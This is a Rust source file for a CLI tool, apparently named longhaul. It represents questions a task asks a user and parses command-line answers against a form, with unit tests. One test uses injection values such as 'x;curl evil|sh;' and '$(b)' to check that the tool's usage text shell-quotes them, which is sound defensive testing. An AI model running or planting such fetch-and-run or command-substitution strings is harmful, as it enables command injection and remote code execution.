//! One question, and an answer to it that was given on a command line.

use std::collections::HashSet;

use longhaul::proto::model::{
    ElicitAction, ElicitForm, ElicitParams, ElicitResult, Form, InputRequest, Task,
};
use longhaul_gateway::shell;
use serde_json::value::RawValue;
use serde_json::{Map, Value, json};

use super::{field, fill};
use crate::exit::Exit;
use crate::failure::{Failure, Outcome};
use crate::near::nearest;
use crate::term::clean;

/// A question to a user.
#[derive(Clone, Debug)]
pub(crate) struct Question {
    /// Its name in its task, where questions have any.
    pub(crate) key: Option<String>,
    pub(crate) asked: ElicitParams,
    /// It is known only that something is asked.
    is_unseen: bool,
}

impl Question {
    pub(crate) fn of(asked: ElicitParams) -> Self {
        Self { key: None, asked, is_unseen: false }
    }

    /// What is asked is not known, but for these words.
    pub(super) fn unseen(words: Option<&str>) -> Self {
        let words = words.unwrap_or("it waits for an answer");
        Self { is_unseen: true, ..Self::of(ElicitParams::Form(ElicitForm::new(words, Form::new()))) }
    }

    /// Those to its user that a task shows.
    pub(crate) fn of_task(task: &Task) -> Vec<Self> {
        let shown = task.questions.iter();
        shown.filter_map(|(key, question)| Self::read(key, question)).collect()
    }

    /// A question as a task keeps it; `None` for one that no user answers.
    pub(crate) fn read(key: &str, question: &RawValue) -> Option<Self> {
        match InputRequest::read(question).ok()? {
            InputRequest::Elicit(asked) => Some(Self { key: Some(key.to_owned()), ..Self::of(asked) }),
            _ => None,
        }
    }

    /// What is asked, in a line.
    pub(crate) fn line(&self) -> String {
        match &self.asked {
            ElicitParams::Form(form) => clean::line(&form.message, 200),
            ElicitParams::Url(page) => clean::line(&format!("{} ({})", page.message, page.url), 400),
        }
    }

    /// What is asked, whole: the words, and what is to be filled in or visited.
    pub(crate) fn whole(&self) -> String {
        match &self.asked {
            ElicitParams::Form(form) => {
                let mut whole = clean::text(form.message.trim());
                for (name, field, is_required) in form.form.fields() {
                    whole.push_str(&format!("\n{}", field::line(name, field, is_required)));
                }
                whole
            }
            ElicitParams::Url(page) => {
                format!("{}\n{}", clean::text(page.message.trim()), clean::line(&page.url, usize::MAX))
            }
        }
    }

    /// How it is answered behind `longhaul tasks answer ID`.
    pub(crate) fn usage(&self) -> String {
        self.answered_by(None)
    }

    /// The same where it is told by its key from others.
    pub(crate) fn answered_by(&self, key: Option<&str>) -> String {
        let is_option = |word: &str| word.starts_with('-');
        let words = match &self.asked {
            ElicitParams::Form(form) => form.form.fields().any(|(name, _, _)| is_option(name)),
            ElicitParams::Url(_) => false,
        };
        let dashes = if words || key.is_some_and(is_option) { " --" } else { "" };
        let key = key.map(|key| format!(" {}", shell::word(&clean::line(key, 128)))).unwrap_or_default();
        format!("{dashes}{key}{}", self.filled_in())
    }

    fn filled_in(&self) -> String {
        match &self.asked {
            ElicitParams::Form(_) if self.is_unseen => String::new(),
            ElicitParams::Form(form) if form.form.fields().len() == 0 => " --accept|--decline".to_owned(),
            ElicitParams::Form(form) => {
                let usage = |(name, field, required)| format!(" {}", field::usage(name, field, required));
                form.form.fields().map(usage).collect()
            }
            ElicitParams::Url(_) => " --accept, once you have been there, or --decline".to_owned(),
        }
    }

    /// It as a program reads it.
    pub(crate) fn json(&self) -> Value {
        let mut object = match &self.asked {
            ElicitParams::Form(form) => {
                json!({ "mode": "form", "message": form.message, "requestedSchema": form.form })
            }
            ElicitParams::Url(page) => json!({ "mode": "url", "message": page.message, "url": page.url }),
        };
        if self.is_unseen {
            object = json!({ "message": self.line() });
        }
        if let Some(key) = &self.key {
            object["key"] = key.as_str().into();
        }
        object
    }

    /// That `who` asks it and nobody here answers; `next` is what to do about that.
    pub(crate) fn failure(&self, who: &str, next: String) -> Failure {
        let message = format!("{who} asks: {}", self.line());
        Failure::new(Exit::InputRequired, "input_required", message).next(next).about("question", self.json())
    }
}

/// An answer as a command line gives it.
#[derive(Clone, Debug)]
pub(crate) struct Given {
    pub(crate) action: ElicitAction,
    /// `name=value` and `name:=json`.
    pub(crate) words: Vec<String>,
}

impl Given {
    /// What it says to a question.
    pub(crate) fn answer(&self, question: &Question) -> Outcome<ElicitResult> {
        if self.action != ElicitAction::Accept {
            return Ok(ElicitResult::of(self.action));
        }
        let form = match &question.asked {
            ElicitParams::Url(_) if self.words.is_empty() => return Ok(ElicitResult::of(self.action)),
            ElicitParams::Url(_) => {
                return Err(Failure::usage("a page has no fields to fill in").next("answer with --accept"));
            }
            ElicitParams::Form(form) => &form.form,
        };
        // Where nothing is said of a field, what it is filled in with stands.
        let mut values: Map<String, Value> =
            serde_json::from_str(form.defaults().get()).map_err(anyhow::Error::from)?;
        let mut given = HashSet::new();
        for word in &self.words {
            let (name, value) = read(word, form)?;
            if !given.insert(name) {
                return Err(Failure::usage(format!("`{}` is given twice", clean::line(name, 80)))
                    .next(format!("the form takes{}", question.usage())));
            }
            values.insert(name.to_owned(), value);
        }
        let content = serde_json::to_string(&values).map_err(anyhow::Error::from)?;
        form.check(&content).map_err(|wrong| {
            Failure::usage(format!("the answer does not fit: {}", clean::line(&wrong.to_string(), 300)))
                .next(format!("the form takes{}", question.usage()))
        })?;
        Ok(fill::accepted(&values))
    }
}

/// A word of the command line, as a field and its value.
fn read<'w>(word: &'w str, form: &Form) -> Outcome<(&'w str, Value)> {
    let Some((name, text)) = word.split_once('=') else {
        return Err(Failure::usage(format!("`{word}` fills in nothing")).next("write FIELD=VALUE"));
    };
    let (name, is_json) = name.strip_suffix(':').map_or((name, false), |name| (name, true));
    let Some((_, field, _)) = form.fields().find(|(known, ..)| *known == name) else {
        let names: Vec<&str> = form.fields().map(|(name, ..)| name).collect();
        let failure = Failure::usage(format!("the form has no field `{name}`"));
        return Err(match nearest(name, names.iter().copied()) {
            Some(near) => failure.next(format!("did you mean `{near}`?")),
            None => failure.next(format!("it has {}", clean::line(&names.join(", "), 300))),
        });
    };
    let value = if is_json {
        let value = serde_json::from_str(text)
            .map_err(|error| Failure::usage(format!("the value of `{name}` is not JSON: {error}")))?;
        field.check(&value).map(|()| value)
    } else {
        field::read(field, text)
    };
    let value = value.map_err(|expected| {
        Failure::usage(format!(
            "`{name}` takes {}, not `{}`",
            clean::line(&expected, 300),
            clean::line(text, 80)
        ))
    })?;
    Ok((name, value))
}

#[cfg(test)]
mod tests {
    use longhaul::proto::model::{ElicitUrl, Field};

    use super::*;

    fn deploy() -> Question {
        let form = Form::new()
            .with("shards", Field::integer().within(1.0, 64.0).defaulting_to(8))
            .with("to", Field::choice(["stage", "prod"]))
            .with_optional("note", Field::text());
        Question::of(ElicitParams::Form(ElicitForm::new("Approve?", form)))
    }

    fn say(action: ElicitAction, words: &[&str], question: &Question) -> Result<String, String> {
        let words = words.iter().map(|word| (*word).to_owned()).collect();
        let answer = Given { action, words }.answer(question);
        answer.map(|answer| serde_json::to_string(&answer).unwrap()).map_err(|failure| format!("{failure:?}"))
    }

    #[test]
    fn words_fill_in_a_form() {
        let accept = |words: &[&str]| say(ElicitAction::Accept, words, &deploy());
        assert_eq!(
            accept(&["to=prod", "note=a=b"]).unwrap(),
            r#"{"action":"accept","content":{"note":"a=b","shards":8,"to":"prod"}}"#
        );
        assert_eq!(
            accept(&["to=2", "shards:=4"]).unwrap(),
            r#"{"action":"accept","content":{"shards":4,"to":"prod"}}"#
        );
        for (words, said) in [
            (&[][..], "`to`: expected a value"),
            (&[], "the form takes [shards=NUMBER] to=stage|prod [note=TEXT]"),
            (&["to=moon"], "`to` takes one of stage, prod, not `moon`"),
            (&["to=prod", "shards=65"], "a whole number, 1 to 64"),
            (&["to=prod", "shards:={"], "is not JSON"),
            (&["to=prod", "shard=1"], "did you mean `shards`?"),
            (&["prod"], "write FIELD=VALUE"),
            (&["to=prod", "to=stage"], "`to` is given twice"),
            (&["to=prod", "to:=\"prod\""], "`to` is given twice"),
        ] {
            let refused = accept(words).unwrap_err();
            assert!(refused.contains(said), "{words:?}: {refused}");
        }
        assert_eq!(say(ElicitAction::Decline, &[], &deploy()).unwrap(), r#"{"action":"decline"}"#);
    }

    #[test]
    fn a_page_is_answered_by_having_been_there() {
        let page = ElicitUrl::new("Sign in", "https://bank.example", "1");
        let page = Question::of(ElicitParams::Url(page));
        assert_eq!(say(ElicitAction::Accept, &[], &page).unwrap(), r#"{"action":"accept"}"#);
        assert!(say(ElicitAction::Accept, &["a=b"], &page).unwrap_err().contains("no fields"));
        assert!(page.usage().contains("--accept"));
    }

    #[test]
    fn what_is_asked_says_nothing_to_a_shell() {
        let form = |name: &str, field: Field| {
            Question::of(ElicitParams::Form(ElicitForm::new("?", Form::new().with(name, field))))
        };
        for (question, key, usage) in [
            (form("x;curl evil|sh;", Field::text()), None, " 'x;curl evil|sh;'=TEXT"),
            (form("to", Field::choice(["a", "$(b)"])), None, " to=a|'$(b)'"),
            (form("--accept", Field::text()), Some("k 1"), " -- 'k 1' --accept=TEXT"),
            (form("to", Field::flag()), Some("--cancel"), " -- --cancel to=yes|no"),
        ] {
            assert_eq!(question.answered_by(key), usage);
        }
    }
}
